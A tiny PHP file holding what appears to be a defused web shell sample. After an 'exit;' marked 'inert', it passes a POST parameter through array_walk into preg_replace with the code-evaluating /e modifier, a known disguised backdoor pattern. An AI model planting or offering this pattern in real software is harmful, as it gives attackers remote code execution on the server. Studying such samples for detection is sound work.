<?php exit; /* inert */ 
$arr = array($_POST['c'] => '|.*|e');
array_walk($arr, 'preg_replace', '');
